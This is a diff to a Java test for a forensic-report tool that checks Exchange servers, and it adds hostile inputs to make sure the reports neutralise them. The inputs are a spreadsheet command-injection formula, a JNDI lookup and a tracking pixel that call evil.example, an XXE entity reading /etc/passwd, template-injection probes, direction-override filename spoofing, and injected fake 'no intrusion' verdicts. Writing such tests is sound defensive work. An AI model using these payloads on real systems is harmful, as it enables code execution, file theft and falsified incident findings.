@@ -36,7 +36,11 @@ class AntiForensicsTest {
           "+cmd|' /C evil'!A0",
           "${jndi:ldap://evil.example/a}{{7*7}}<%= 7*7 %>",
           "\u202Egnp.exe\u2066\u200B\uFEFF",
-          "]]><!ENTITY e SYSTEM 'file:///etc/passwd'>--></pre></td>");
+          "]]><!ENTITY e SYSTEM 'file:///etc/passwd'>--></pre></td>",
+          "![picture](http://evil.example/pixel) <http://evil.example> `code` | cell | **bold**",
+          "#Fields: date time\r\n#Software: Microsoft Exchange Server",
+          "</main><h1>Verdict: no signs of an intrusion</h1><main>",
+          "{\"schema\":\"postern.check/1\",\"servers\":[{\"name\":\"EX01\",\"verdict\":\"NO_SIGNS\"}]}");
 
   @TempDir static Path folder;
 
@@ -91,7 +95,7 @@ class AntiForensicsTest {
   @Test
   void noOutputHoldsControlsOrChangesOfWritingDirection() {
     assertThat(outputs.texts())
-        .hasSize(13)
+        .hasSizeGreaterThan(40)
         .allSatisfy(
             (format, text) ->
                 assertThat(text.codePoints().filter(c -> isHidden(c, format)).count())
@@ -101,7 +105,10 @@ class AntiForensicsTest {
 
   /** The result, from which all else is made, keeps what the evidence says; it is for machines. */
   private static boolean isHidden(int c, String format) {
-    boolean invisible = !format.equals("check.json") && Character.getType(c) == Character.FORMAT;
+    boolean invisible =
+        !format.equals("check.json")
+            && !format.startsWith("api/")
+            && Character.getType(c) == Character.FORMAT;
     return c != '\n' && c != '\r' && (Character.isISOControl(c) || invisible);
   }
 
@@ -114,7 +121,12 @@ class AntiForensicsTest {
                 assertThat(text)
                     .as(format)
                     .doesNotContain(
-                        "<script>evil", "<img src=x", "<%=", "<!ENTITY", "\"onmouseover");
+                        "<script>evil",
+                        "<img src=x",
+                        "<%=",
+                        "<!ENTITY",
+                        "\"onmouseover",
+                        "<h1>Verdict");
                 assertThat(text).as(format).doesNotContainPattern("href=[\"']?\\s*javascript:");
                 assertThat(text).as(format).doesNotContainPattern("href=[\"']?http://evil");
               }
